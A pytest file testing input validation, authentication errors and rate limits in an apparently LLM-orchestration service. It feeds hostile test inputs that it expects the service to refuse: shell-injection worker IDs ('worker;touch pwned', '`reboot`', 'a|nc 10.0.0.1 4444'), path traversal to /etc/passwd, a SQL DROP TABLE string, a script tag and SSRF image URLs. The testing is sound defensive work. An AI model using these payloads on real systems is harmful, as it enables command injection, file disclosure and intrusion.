"""Scenario file 140: input validation, and how the command line and the hive refuse callers."""

import contextlib
import http.client
import json
import random
import re
import socket
import string
import time
import urllib.parse

import pytest

from cli import Cli, free_port
from harness import (
    BIN, SANITIZED, TOKEN, Api, Cluster, FakeHive, Program, make_model, start_hive, wait_for,
    write_fake_gpus,
)

INVALID = "Invalid model reference: "
FORMS = ("file:/path/to/model.gguf", "hf:org/repo")


def spawn(api, ref="hello", **body):
    return api.post("/v1/workers/spawn", {"model_ref": ref, "backend": "cpu", **body})


def check_refused(answer, *words, field=None, code="INVALID_REQUEST"):
    """A 400 in the one shape that lists the field; returns its message."""
    assert answer.status == 400, answer.body
    error = answer.error()
    assert error["code"] == code, error
    assert [w for w in words if w not in error["message"]] == [], error
    if field:
        listed = error["details"]["errors"]
        assert field in [e["field"] for e in listed], error
        assert all(set(e) == {"field", "constraint", "message"} for e in listed), error
        assert error["param"] == listed[0]["field"]
    return error["message"]


def check_ref_refused(api, ref, *words):
    answer = spawn(api, ref)
    check_refused(answer, *words, field="model_ref", code="INVALID_MODEL_REF")
    for form in FORMS:
        assert form in answer.error()["message"]
    return answer


@pytest.fixture
def both(shared):
    """Queen and hive."""
    return shared.api, shared.hive_api()


@pytest.fixture
def queen(both):
    return both[0]


@pytest.fixture
def hive(both):
    return both[1]


@pytest.fixture
def logs(shared):
    """Everything that queen and hive have written so far."""

    def read():
        hive = (shared.home / "logs" / "hive-localhost.log").read_text()
        return "\n".join(shared.queen.log) + "\n" + hive

    return read


def log_is_clean(text, forged):
    """Every line is an entry of ours, and none begins with what a client sent."""
    lines = [line for line in text.splitlines() if line]
    assert [line for line in lines if line.startswith(forged)] == []
    assert [line for line in lines if line.startswith("{") and not json.loads(line)] == []


def test_VAL_001_a_newline_in_a_model_ref_cannot_forge_a_log_line(both, logs):
    for api in both:
        check_ref_refused(api, "hf:m\n[ERROR] forged entry", INVALID, "contains newline characters")
        assert api.get("/nothing%0A[ERROR]%20forged").status in (400, 404)
    log_is_clean(logs(), "[ERROR]")


def test_VAL_002_an_escape_in_a_model_ref_does_not_reach_the_log(both, logs):
    for api in both:
        check_ref_refused(api, "hf:m\x1b[31mred", INVALID, "contains ANSI escape codes")
        assert api.get("/nothing%1B%5B31mred").status in (400, 404)
    assert "\x1b" not in logs()


def test_VAL_003_a_null_byte_in_a_model_ref(both):
    for api in both:
        check_ref_refused(api, "hf:m\0x", INVALID, "contains null bytes")


@pytest.fixture
def path_hive(tmp_path):
    """A hive with a model in a folder, one outside, and links to both."""
    models = tmp_path / "models"
    (models / "family").mkdir(parents=True)
    model = make_model(models / "family", "inner", "--seed", "5")
    outside = make_model(tmp_path, "outside", "--seed", "6")
    (models / "link.gguf").symlink_to(outside)
    (models / "near.gguf").symlink_to(model)
    (models / "folder").symlink_to(models / "family")
    hive = start_hive(tmp_path, "--models-dir", models, extra_env={"LLAMA_ARG_THREADS": "1"})
    yield hive
    assert hive.stop() == 0, hive.log_text()


def spawn_path(hive, path):
    return hive.api.post("/v1/workers/spawn", {"model_path": path, "backend": "cpu"})


def test_VAL_004_a_model_path_with_dots(path_hive, tmp_path):
    def files():  # but for those that a hive writes for itself
        return sorted(str(p) for p in tmp_path.rglob("*") if not {"logs", "run"} & set(p.parts))

    before = files()
    for path in ("../outside.gguf", "../../../etc/passwd", "family/../../outside.gguf", "..\\x"):
        answer = spawn_path(path_hive, path)
        check_refused(answer, "Invalid path: ", "path traversal detected", field="model_path")
        assert "etc" not in answer.error()["message"] and "outside" not in answer.error()["message"]
    check_ref_refused(path_hive.api, "file:/models/../etc/passwd", "path traversal detected")
    assert files() == before
    assert path_hive.api.get("/v1/workers").json()["workers"] == []
    assert spawn_path(path_hive, "family/inner.gguf").status == 200


def test_VAL_005_an_absolute_model_path(path_hive, tmp_path):
    for path in ("/etc/passwd", str(tmp_path / "outside.gguf"), "~/x.gguf", "C:\\x.gguf"):
        check_refused(
            spawn_path(path_hive, path), "Invalid path: absolute paths not allowed", field="model_path"
        )


def test_VAL_006_a_model_path_through_a_link(path_hive):
    for path in ("link.gguf", "near.gguf", "folder/inner.gguf"):
        check_refused(
            spawn_path(path_hive, path), "Invalid path: symlinks not allowed", field="model_path"
        )


def worker_id_refused(api, worker_id, *words):
    """In the path of every call that takes one, and in bodies."""
    quoted = urllib.parse.quote(worker_id, safe="")
    for method, path in (
        ("GET", f"/v1/workers/{quoted}"),
        ("DELETE", f"/v1/workers/{quoted}"),
        ("GET", f"/v1/workers/{quoted}/logs"),
        ("GET", f"/v1/workers/{quoted}/progress"),
    ):
        answer = api.request(method, path)
        check_refused(answer, "Invalid worker ID: ", *words, field="worker_id")
        assert worker_id not in answer.error()["message"]


@pytest.mark.parametrize(
    "name, worker_id, words",
    [
        ("VAL_007", "worker;touch pwned", "contains shell metacharacters"),
        ("VAL_008", "worker`touch pwned`", "contains backticks"),
        ("VAL_009", "worker|touch pwned", "contains pipe characters"),
    ],
)
def test_VAL_007_VAL_008_VAL_009_shell_characters_in_a_worker_id(
    shared, both, queen, hive, name, worker_id, words
):
    for api in both:
        worker_id_refused(api, worker_id, words)
    body = {"worker_id": worker_id, "timestamp": "2026-01-02T03:04:05Z", "health_status": "healthy"}
    answer = hive.post("/v1/heartbeat", body)
    check_refused(answer, words, field="worker_id")
    check_refused(queen.post("/v1/workers/shutdown", {"worker_id": worker_id}), words)
    assert list(shared.home.rglob("pwned")) == []


def test_VAL_010_a_ref_needs_its_scheme(both):
    for api in both:
        check_ref_refused(api, "org/repo", "Invalid model reference format")
        check_ref_refused(api, "s3:org/repo", "Invalid model reference format")
        # Read as it should be; that hives do not download yet is another matter.
        answer = spawn(api, "hf:org/repo")
        assert answer.status == 501, answer.body


def test_VAL_011_special_characters_in_a_model_ref(both):
    for api in both:
        check_ref_refused(api, "hf:model!@#$%", INVALID, "contains special characters")


def test_VAL_012_a_worker_id_has_dashes_and_no_underscores(both):
    for api in both:
        assert api.get("/v1/workers/worker-abc-123").status == 404
        worker_id_refused(api, "worker_abc", "only alphanumeric and dash allowed")


def test_VAL_013_a_worker_id_of_more_than_64_characters(both):
    for api in both:
        assert api.get("/v1/workers/" + "a" * 64).status == 404
        worker_id_refused(api, "a" * 65, "exceeds maximum length of 64 characters")


def test_VAL_014_backends_are_cpu_cuda_and_metal(both, hive):
    started = spawn(hive, "tiny")
    assert started.status == 200, started.body
    for api in both:
        for backend in ("cuda", "metal"):  # known, and not on this machine
            answer = spawn(api, backend=backend)
            assert (answer.status, answer.error()["code"]) == (400, "BACKEND_UNAVAILABLE")
        for backend in ("rocm", "CPU", "cpu;ls", "x" * 1000):
            answer = spawn(api, backend=backend)
            check_refused(answer, "must be one of [cpu, cuda, metal]", field="backend")
            assert backend not in answer.error()["message"] or backend == "CPU"
    worker = started.json()["worker_id"]
    assert hive.delete(f"/v1/workers/{worker}").status == 204


def test_VAL_015_devices_are_whole_numbers_from_0(both, hive):
    for api in both:
        answer = spawn(api, device=5)  # the format is fine, there is just no such device
        assert answer.status == 400 and "devices: 0" in answer.error()["message"]
        for device in (-1, 1.5, "0", 2**40):
            check_refused(spawn(api, device=device), "device", field="device")
    started = spawn(hive, "tiny", device=0)
    assert started.status == 200, started.body
    hive.delete(f"/v1/workers/{started.json()['worker_id']}")


def test_VAL_016_the_port_is_from_1024_to_65535(tmp_path):
    def start(program, port, *arguments, ready=True):
        return Program([BIN / program, "--port", str(port), *arguments], tmp_path, ready=ready)

    port = free_port()
    queen = start("queen-rbee", port, "--local-hive", "never")
    assert queen.url.endswith(f":{port}")
    assert queen.stop() == 0
    for program in ("queen-rbee", "rbee-hive", "llm-worker-rbee"):
        model = ["--model", "/nowhere.gguf"] if program == "llm-worker-rbee" else []
        for bad in (80, 70000, 65536, 1):
            refused = start(program, bad, *model, ready=False)
            assert refused.process.wait(20) == 1
            wait_for(lambda: "65535" in refused.log_text(), what="the allowed range")


def test_VAL_017_node_names_are_dns_names(cluster):
    with contextlib.ExitStack() as stack:
        for name in ("workstation", "gpu-1.home.lan"):
            fake = FakeHive()
            stack.callback(fake.close)
            answer = cluster.api.post("/v1/hives", {"name": name, "url": fake.url})
            assert answer.status == 201, answer.body
            assert cluster.api.get(f"/v1/hives/{name}").status == 200
    body = {"url": "http://127.0.0.1:9"}
    for bad in ("user@host", "a b", "-a", "a..b", "a/b", "x" * 65, "a\n"):
        refused = cluster.api.post("/v1/hives", {"name": bad, **body})
        check_refused(refused, "Invalid node name: ", field="name")
        refused = cluster.api.post("/v2/registry/beehives/add", {"node_name": bad, **body})
        check_refused(refused, "Invalid node name: ", field="node_name")
        quoted = urllib.parse.quote(bad, safe="")
        check_refused(cluster.api.get(f"/v1/hives/{quoted}"))
        check_refused(cluster.api.get(f"/v1/workers?node={quoted}"))
        check_refused(spawn(cluster.api, node=bad), field="node")


SQL = "hf:x'; DROP TABLE beehives; --"


def test_VAL_018_sql_in_a_model_ref_leaves_the_tables_alone(both, queen):
    for api in both:
        check_ref_refused(api, SQL, INVALID, "contains special characters")
    nodes = queen.get("/v2/registry/beehives/list")
    assert nodes.status == 200 and nodes.json()["nodes"] is not None


SCRIPT = "<script>alert('x')</script>"


def test_VAL_019_a_script_tag_is_not_in_the_answer(both):
    for api in both:
        answer = check_ref_refused(api, "hf:" + SCRIPT, INVALID, "contains HTML/script tags")
        assert b"<script" not in answer.body and b"alert" not in answer.body


def random_request(rng):
    """(method, path, body, whether it must be accepted)."""
    noise = "".join(
        rng.choice(string.printable + "\0\x1b\u202e\u00e9'\"<>`|;&$") for _ in range(rng.randrange(60))
    )
    quoted = urllib.parse.quote(noise, safe="") or "x"
    value = rng.choice([noise, None, True, -1, 10**30, 0.5, [], {}, [noise], {"a": noise}])
    field = rng.choice(["model_ref", "backend", "device", "slots", "engine_args", "node", "model_path"])
    bad_spawn = {"model_ref": "hf:" + noise + "!", field: value}
    return rng.choice([
        ("POST", "/v1/workers/spawn", json.dumps(bad_spawn).encode(), False),
        ("POST", "/v1/workers/spawn", noise.encode(errors="replace"), False),
        ("POST", "/v2/workers/register", json.dumps({"worker_id": noise, "url": value}).encode(), False),
        ("POST", "/v1/chat/completions", json.dumps({"model": noise + "!", "stream": value}).encode(), False),
        ("POST", "/v2/tasks", json.dumps({"node": noise + "!", "model": value}).encode(), False),
        ("POST", "/v1/hives", json.dumps({"name": value, "url": noise}).encode(), False),
        ("GET", f"/v1/workers/{quoted}", None, False),
        ("GET", f"/v1/workers/{quoted}/logs?tail={quoted}", None, False),
        ("DELETE", f"/v1/hives/{quoted}!", None, False),
        ("GET", "/v1/workers?model=" + "".join(rng.choices(string.ascii_letters, k=9)), None, True),
        ("GET", "/v1/status", None, True),
        ("GET", "/v1/models", None, True),
    ])


def test_VAL_020_a_thousand_random_requests(cluster):
    """A fixed seed. What is bad is 400 (404 for names nobody has; 429 when they come too fast),
    what is good is accepted, nothing crashes and nothing leaks."""
    rng = random.Random(20_261_123)
    statuses = {}
    before = 0
    for i in range(1000):
        method, path, body, good = random_request(rng)
        answer = cluster.api.request(method, path, body)
        statuses[answer.status] = statuses.get(answer.status, 0) + 1
        if good:
            assert answer.status == 200, (i, method, path, answer.body)
        else:
            assert answer.status in (400, 404, 429), (i, method, path, body, answer.body)
        if i == 100:
            before = resident_kb(cluster.queen.pid())
    assert statuses[400] >= 50 and statuses[200] > 100, statuses
    assert cluster.queen.process.poll() is None
    if not SANITIZED:
        assert resident_kb(cluster.queen.pid()) < before + 20_000
    time.sleep(1.1)  # the next second
    assert spawn(cluster.api, "hf:a b").status == 400


def resident_kb(pid):
    with open(f"/proc/{pid}/status") as status:
        return int(re.search(r"VmRSS:\s+(\d+)", status.read()).group(1))


def test_VAL_021_a_model_ref_is_ascii(both):
    for api in both:
        check_ref_refused(api, "hf:org/mod\u00e8le", INVALID, "non-ASCII characters not allowed")
        check_ref_refused(api, "hf:org/\u202eedom", INVALID, "non-ASCII characters not allowed")


def test_VAL_022_a_body_of_10_mb(both):
    """The head says how long it is: it is refused before a byte of it was sent."""
    for api in both:
        with socket.create_connection((api.host, api.port), 10) as s:
            s.sendall(
                f"POST /v1/workers/spawn HTTP/1.1\r\nHost: {api.host}:{api.port}\r\n"
                f"Authorization: Bearer {TOKEN}\r\nContent-Type: application/json\r\n"
                "Content-Length: 10485760\r\n\r\n".encode()
            )
            response = http.client.HTTPResponse(s)
            response.begin()
            error = json.loads(response.read())["error"]
        assert (response.status, error["code"]) == (413, "PAYLOAD_TOO_LARGE")
        assert "1 MB" in error["message"]
    chunks = [b'{"model_ref":"' + b"a" * 1_000_000, b"a" * 1_000_000 + b'"}']
    connection = both[0].connect()
    with contextlib.suppress(ConnectionError):  # it may stop reading
        connection.request(
            "POST", "/v1/workers/spawn", iter(chunks), both[0].headers(), encode_chunked=True
        )
    assert connection.getresponse().status == 413
    connection.close()


def test_VAL_023_more_than_50_bad_requests_in_a_second_are_429(cluster):
    connection = cluster.api.connect()
    body = json.dumps({"model_ref": "hf:bad ref"})

    def ask(method, path, data=None):
        connection.request(method, path, data, cluster.api.headers())
        response = connection.getresponse()
        return response.status, response.headers, response.read()

    ask("GET", "/v1/status")
    for _ in range(3):  # on a machine that is busy a second may be too short
        time.sleep(1.1)
        begun = time.monotonic()
        answers = [ask("POST", "/v1/workers/spawn", body) for _ in range(100)]
        if time.monotonic() - begun < 1:
            break
    statuses = [status for status, _, _ in answers]
    assert statuses == [400] * 50 + [429] * 50, statuses
    limited = answers[-1]
    assert limited[1]["Retry-After"] == "1"
    assert json.loads(limited[2])["error"]["code"] == "RATE_LIMITED"
    assert ask("GET", "/v1/workers")[0] == 200  # a valid request is never refused
    time.sleep(1.1)
    assert ask("POST", "/v1/workers/spawn", body)[0] == 400
    connection.close()


PAYLOADS = [SCRIPT, SQL, "../../../etc/passwd", "a\n[ERROR] x", "`reboot`", "a|nc 10.0.0.1 4444"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_VAL_024_no_error_repeats_the_payload(both, queen, hive, payload):
    quoted = urllib.parse.quote(payload, safe="")
    chat = {"model": payload, "messages": [{"role": "user", "content": "x"}]}
    node = {"node_name": payload, "ssh_host": payload, "ssh_port": payload, "url": payload}
    answers = [queen.post("/v1/chat/completions", chat)]
    for api in both:
        answers += [
            spawn(api, payload),
            spawn(api, backend=payload),
            spawn(api, device=payload),
            spawn(api, node=payload),
            spawn(api, engine_args=[payload, "\x1b"]),
            api.post("/v1/workers/spawn", {"model_path": payload}),
            api.get(f"/v1/workers/{quoted}"),
            api.get(f"/v1/workers/a-b/logs?tail={quoted}"),
        ]
    answers += [
        queen.post("/v2/workers/register", {"worker_id": payload, "url": payload}),
        queen.post("/v2/workers/shutdown", {"worker_id": payload}),
        queen.post("/v2/registry/beehives/add", node),
        queen.post("/v2/tasks", {"node": payload, "model": payload, "prompt": payload}),
        queen.get(f"/v1/models/{quoted}"),
        queen.post("/v1/hives/heartbeat", {"hive_id": payload, "url": payload}),
        hive.post("/v1/heartbeat", {"worker_id": payload}),
        hive.post("/v1/workers/ready", {"worker_id": payload, "url": payload}),
    ]
    for answer in answers:
        assert 400 <= answer.status < 500, answer.body
        # Correlation ids are random: now and then one has "4444" in it.
        error = {k: v for k, v in answer.error().items() if k != "correlation_id"}
        told = json.dumps(error, ensure_ascii=False)
        assert payload not in told and json.dumps(payload)[1:-1] not in told, told
        for part in ("passwd", "alert(", "DROP", "reboot", "4444"):
            assert part not in told, told


def test_VAL_025_every_endpoint_checks_what_it_reads(both, queen, hive):
    bad = "bad\x1bname"
    quoted = urllib.parse.quote(bad)
    for api in both:
        check_refused(spawn(api, bad), field="model_ref", code="INVALID_MODEL_REF")
        check_refused(api.get(f"/v1/workers/{quoted}"))
        check_refused(api.delete(f"/v1/workers/{quoted}"))
        check_refused(api.post("/v1/chat/completions", {"model": bad, "messages": []}), field="model")
        check_refused(api.post("/v1/completions", {"model": "hello", "max_tokens": -5}), field="max_tokens")
        check_refused(api.post("/v1/completions", {"model": "hello", "prompt": "a\0b"}), "null bytes")
        check_refused(api.post("/v1/chat/completions", {"model": "hello", "stream": "yes"}), field="stream")
        assert api.delete(f"/v1/inference/{quoted}").status == 400
    check_refused(queen.request("PATCH", f"/v1/workers/{quoted}", {"state": "idle"}))
    check_refused(queen.get(f"/v1/workers?capability={quoted}"), field="capability")
    check_refused(queen.get(f"/v1/workers/health?node={quoted}"), field="node")
    task = {"node": "localhost", "model": "hello", "prompt": "x"}
    check_refused(queen.post("/v2/tasks", {**task, "backend": bad}), field="backend")
    check_refused(queen.post("/v2/tasks", {**task, "device": -1}), field="device")
    check_refused(queen.post("/v2/tasks", {**task, "prompt": "a\0"}), field="prompt")
    check_refused(hive.get("/v1/workers/a-b/logs?tail=many"), field="tail")
    ready = {"worker_id": "a-b", "url": "http://127.0.0.1:1", "model_ref": "x", "backend": "cpu"}
    for field, value in (
        ("url", "ftp://x"), ("url", "http://a\x1b:1"), ("state", bad), ("device", -1),
        ("model_ref", bad), ("backend", "rocm"), ("slots_total", "four"),
    ):  # fmt: skip
        refused = hive.post("/v1/workers/ready", {**ready, field: value})
        check_refused(refused, field=field)


def test_images_that_a_client_names_by_url_are_not_fetched(queen):
    """The engine would fetch them itself, from wherever the client says."""
    with contextlib.closing(socket.create_server(("127.0.0.1", 0))) as internal:
        internal.settimeout(0.5)
        for url in (
            f"http://127.0.0.1:{internal.getsockname()[1]}/secret", "file:///etc/hostname", "HTTPS://x/y",
        ):  # fmt: skip
            parts = [{"type": "text", "text": "What?"}, {"type": "image_url", "image_url": {"url": url}}]
            body = {"model": "hello", "messages": [{"role": "user", "content": parts}]}
            answer = queen.post("/v1/chat/completions", body)
            message = check_refused(answer, "data:")
            assert url not in message
        with pytest.raises(TimeoutError):
            internal.accept()


def test_the_largest_inference_body_can_be_set(tmp_path, models_dir, queen):
    body = {"model": "hello", "prompt": "x", "max_tokens": 1, "user": "a" * 2**21, "n": "not a number"}
    assert queen.post("/v1/completions", body).status == 400  # read, and found wrong by the engine
    small = Cluster(tmp_path, models_dir, queen_args=["--inference-body-mb", "1"])
    try:
        with contextlib.suppress(ConnectionError):  # it may stop reading
            answer = small.api.post("/v1/completions", body)
            assert answer.status == 413 and "1 MB" in answer.error()["message"]
    finally:
        assert small.stop() == 0


@pytest.fixture
def rbee(shared):
    return Cli(shared.home, shared.queen.url)


def test_EH_015a_the_command_line_wants_a_scheme(rbee):
    refused = rbee.run("workers", "spawn", "org/repo")
    assert refused.code == 1 and refused.out == ""
    assert "Invalid model reference format" in refused.err
    for form in FORMS:
        assert form in refused.err
    assert "rbee workers spawn" in refused.err  # how it is used


def test_EH_015b_the_command_line_knows_the_backends(rbee):
    for arguments in (("workers", "spawn", "hello"), ("infer", "hi", "--model", "hello")):
        refused = rbee.run(*arguments, "--backend", "quantum")
        assert refused.code == 1 and refused.out == ""
        for backend in ("cpu", "cuda", "metal"):
            assert backend in refused.err, refused


def test_EH_015c_a_device_that_is_not_there(tmp_path, models_dir):
    gpus = write_fake_gpus(tmp_path / "gpu", [(24000, 23000), (24000, 23000)])
    env = {**gpus, "RBEE_WORKER_BACKENDS": "cuda,cpu"}
    cluster = Cluster(tmp_path, models_dir, extra_env=env)
    try:
        rbee = Cli(tmp_path, cluster.queen.url)
        refused = rbee.run("workers", "spawn", "tiny", "--backend", "cuda", "--device", 5)
        assert refused.code == 1 and refused.out == "", refused
        assert "devices: 0, 1" in refused.err, refused
    finally:
        assert cluster.stop() == 0


def test_EH_017a_a_call_without_a_key(shared, tmp_path):
    answer = Api(shared.hive_api().url, token=None).get("/v1/workers/list")
    assert answer.status == 401
    assert answer.headers["Content-Type"].startswith("application/json")
    assert answer.headers["WWW-Authenticate"].startswith("Bearer")
    assert answer.error()["code"] == "MISSING_API_KEY"
    refused = Cli(tmp_path, shared.queen.url, token=None).run("workers", "list")
    assert refused.code == 1 and refused.out == ""
    for way in ("--token-file", "LLORCH_API_TOKEN", "config.toml"):
        assert way in refused.err, refused


def test_EH_017b_a_call_with_a_wrong_key(shared, tmp_path):
    answer = Api(shared.hive_api().url, token="not-the-right-token").get("/v1/workers/list")
    assert (answer.status, answer.error()["code"]) == (401, "INVALID_API_KEY")
    refused = Cli(tmp_path, shared.queen.url, token="not-the-right-token").run("workers", "list")
    assert refused.code == 1 and refused.out == ""
    assert "Invalid" in refused.err and "LLORCH_API_TOKEN" in refused.err
    assert "not-the-right-token" not in refused.err
